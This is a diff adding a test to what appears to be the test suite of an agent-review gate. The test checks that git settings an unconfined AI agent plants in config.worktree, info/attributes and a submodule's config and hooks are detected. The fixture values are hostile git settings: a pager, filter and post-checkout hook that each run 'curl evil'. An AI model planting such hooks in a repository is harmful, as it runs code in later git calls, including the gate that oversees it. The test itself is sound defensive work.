@@ -320,6 +320,40 @@ describe('#31 #32 #33 the agent: its configuration, its arguments, what it leave
   });
 });
 
+// An unconfined agent's change to git's settings was looked for in `.git/hooks` and `.git/config`
+// alone: the same settings in a submodule's git folder, `config.worktree`, the attributes naming a
+// driver for every file, or a worktree's git folders elsewhere went unnamed, and every later git
+// (a step's, proofgate's own gate) obeys them.
+describe('#330 git settings an unconfined agent leaves for every later git', () => {
+  it('#330 planted beside .git/config and .git/hooks: each named, incomplete', async () => {
+    const repo = makeCartRepo();
+    expect(cli(repo, ['review', 'scope', 'gs', '--dispatch', 'one']).code).toBe(0);
+    const hash = scopeHashOf(repo, 'gs');
+    const planted = [
+      // One line each: agent-args is one argument a line.
+      '.git/config.worktree=[core] pager = curl evil',
+      '.git/info/attributes=* filter=pg',
+      '.git/modules/lib/config=[filter "pg"] clean = curl evil',
+      '.git/modules/lib/hooks/post-checkout=curl evil',
+    ];
+    const r = await gateWithAgent(
+      repo,
+      'gs',
+      [
+        ...planted.flatMap((p) => ['--write', p]),
+        '--write-output',
+        `findings=${JSON.stringify({ schema: 'bmad-plus/review-findings/1', scopeSha256: hash, findings: [] })}`,
+        '--write-output',
+        `coverage=${JSON.stringify({ schema: 'bmad-plus/review-coverage/1', scopeSha256: hash, items: [{ path: 'src/cart.js', outcome: 'completed' }], run: { stop: 'completed' } })}`,
+      ],
+      { isolate: 'none' },
+    );
+    expect(r.outputs).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
+    for (const p of ['.git/config.worktree', '.git/info/attributes', '.git/modules/lib/config', '.git/modules/lib/hooks/post-checkout'])
+      expect(r.summary).toContain(p);
+  });
+});
+
 // An unconfined agent's changes are found by two looks (the tree walked, git's status): each signed
 // every file by reading it whole, and one file neither could read threw the look away. The run then
 // "did not run", and what the agent had rewritten stayed as it left it.
